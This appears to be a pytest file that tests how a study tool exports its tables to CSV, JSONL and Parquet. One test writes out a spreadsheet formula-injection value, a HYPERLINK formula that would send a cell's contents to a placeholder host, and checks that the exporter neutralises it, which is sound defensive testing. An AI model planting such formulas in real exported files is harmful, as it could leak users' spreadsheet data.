"""Every table can leave in three formats and comes back the same; a mistyped name is caught before any file is made."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from portrayal.csvfile import read_csv
from portrayal.errors import StorageError, UnknownNameError
from portrayal.store.workspace import SCHEMAS
from portrayal.study.plan.make_plan import plan
from portrayal.study.run_control import RunControl
from portrayal.study.study import OpenStudy
from portrayal.study.tables.exporting import FORMATS, export_tables
from portrayal.study.tables.image_table import image_table


def contents(study: Path, name: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pa.concat_tables(OpenStudy(study).workspace.tables[name].batches()).to_pylist(
        maps_as_pydicts="strict"
    )
    return found


def from_cell(text: str, kind: pa.DataType) -> Any:
    if not text and not pa.types.is_string(kind):
        return None
    if pa.types.is_integer(kind):
        return int(text)
    if pa.types.is_floating(kind):
        return float(text)
    return json.loads(text) if pa.types.is_nested(kind) else text


def without_empty_text(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """A reader of CSV cannot tell an absent text from an empty one."""
    return [{name: "" if value is None else value for name, value in row.items()} for row in rows]


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMATS)
def test_all_tables_leave_when_none_is_named(finished: Path, tmp_path: Path, form: str) -> None:
    paths = export_tables(OpenStudy(finished), tmp_path / "deep" / "out", form)
    assert [path.name for path in paths] == [f"{name}.{form}" for name in SCHEMAS]
    assert sorted(paths) == sorted((tmp_path / "deep" / "out").iterdir())


def test_what_a_spreadsheet_would_run_leaves_as_text(make_study: Callable[..., Path], tmp_path: Path) -> None:
    study = OpenStudy(make_study(prompts='text,term\n"=HYPERLINK(""http://x/?""&A1)",@a\n-5,+a\n'))
    plan(study, RunControl())
    (path,) = export_tables(study, tmp_path / "out", "csv", ["prompts"])
    with path.open(encoding="utf-8", newline="") as file:
        cells = [(line["text"], line["term"]) for line in csv.DictReader(file)]
    assert cells == [('\'=HYPERLINK("http://x/?"&A1)', "'@a"), ("-5", "'+a")]
    rows = read_csv(path, [], SCHEMAS["prompts"].names)
    assert [(row["text"], row["term"]) for row in rows] == [('=HYPERLINK("http://x/?"&A1)', "@a"), ("-5", "+a")]


@pytest.mark.parametrize("name", ["prompts", "jobs", "outcomes", "observations", "measurements", "truths"])
def test_csv_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
    (path,) = export_tables(OpenStudy(finished), tmp_path, "csv", [name])
    with path.open(encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    types = {field.name: field.type for field in SCHEMAS[name]}
    back = [{column: from_cell(line[column], kind) for column, kind in types.items()} for line in lines]
    assert without_empty_text(back) == without_empty_text(contents(finished, name))


@pytest.mark.parametrize("name", ["outcomes", "observations", "measurements"])
def test_jsonl_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
    (path,) = export_tables(OpenStudy(finished), tmp_path, "jsonl", [name])
    back = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    kept = SCHEMAS[name].names
    assert [{column: row[column] for column in kept} for row in back] == contents(finished, name)


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_notes_leave_as_codes_and_in_words(finished: Path, tmp_path: Path, form: str) -> None:
    (path,) = export_tables(OpenStudy(finished), tmp_path, form, ["measurements"])
    text = path.read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines())) if form == "csv" else [json.loads(row) for row in text.splitlines()]
    noted = [row for row in rows if "only_images" in str(row["notes"])]
    assert noted
    assert all(row["note"].startswith("only ") and row["note"].endswith(("image", "images")) for row in noted)
    assert {row["note"] for row in rows if str(row["notes"]) == "[]"} == {""}


@pytest.mark.parametrize("name", ["outcomes", "observations", "measurements"])
def test_parquet_comes_back_with_its_types(finished: Path, tmp_path: Path, name: str) -> None:
    (path,) = export_tables(OpenStudy(finished), tmp_path, "parquet", [name])
    with pq.ParquetFile(path) as file:
        table = file.read()
    assert table.schema == SCHEMAS[name]
    assert table.to_pylist(maps_as_pydicts="strict") == contents(finished, name)


def test_empty_tables_leave_with_their_columns(make_study: Callable[..., Path], tmp_path: Path) -> None:
    study = OpenStudy(make_study())
    csv_path, jsonl, parquet = (export_tables(study, tmp_path, form, ["outcomes"])[0] for form in FORMATS)
    assert csv_path.read_text().replace('"', "").strip().split(",") == SCHEMAS["outcomes"].names
    assert jsonl.read_bytes() == b""
    with pq.ParquetFile(parquet) as file:
        assert (file.schema_arrow, file.metadata.num_rows) == (SCHEMAS["outcomes"], 0)


def test_any_script_survives(make_study: Callable[..., Path], tmp_path: Path) -> None:
    from portrayal.study.plan.make_plan import plan
    from portrayal.study.run_control import RunControl

    study = OpenStudy(make_study(prompts='text\n"a ""看護師"", 😀"\n'))
    plan(study, RunControl())
    csv_path, jsonl, _ = (export_tables(study, tmp_path, form, ["prompts"])[0] for form in FORMATS)
    with csv_path.open(encoding="utf-8", newline="") as file:
        assert next(csv.DictReader(file))["text"] == 'a "看護師", 😀'
    assert "看護師" in jsonl.read_text(encoding="utf-8")


def test_a_mistyped_table_gets_a_hint_and_no_file(finished: Path, tmp_path: Path) -> None:
    with pytest.raises(UnknownNameError, match="no table named 'outcome'; did you mean 'outcomes'"):
        export_tables(OpenStudy(finished), tmp_path / "out", "csv", ["prompts", "outcome"])
    assert not (tmp_path / "out").exists()


def test_a_file_where_the_folder_should_be_is_one_clear_error(finished: Path, tmp_path: Path) -> None:
    (tmp_path / "out").touch()
    with pytest.raises(StorageError, match="out"):
        export_tables(OpenStudy(finished), tmp_path / "out", "csv", ["prompts"])


@pytest.mark.parametrize("form", FORMATS)
def test_images_leave_with_what_was_perceived_when_they_are_named(finished: Path, tmp_path: Path, form: str) -> None:
    (path,) = export_tables(OpenStudy(finished), tmp_path, form, ["images"])
    rows = image_table(OpenStudy(finished)).to_pylist()
    if form == "csv":
        with path.open(encoding="utf-8", newline="") as file:
            found = [(line["file"], line["gender"], line["reason"]) for line in csv.DictReader(file)]
        assert found == [tuple(row[name] or "" for name in ("file", "gender", "reason")) for row in rows]
    elif form == "jsonl":
        assert [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] == rows
    else:
        assert pq.read_table(path).to_pylist() == rows
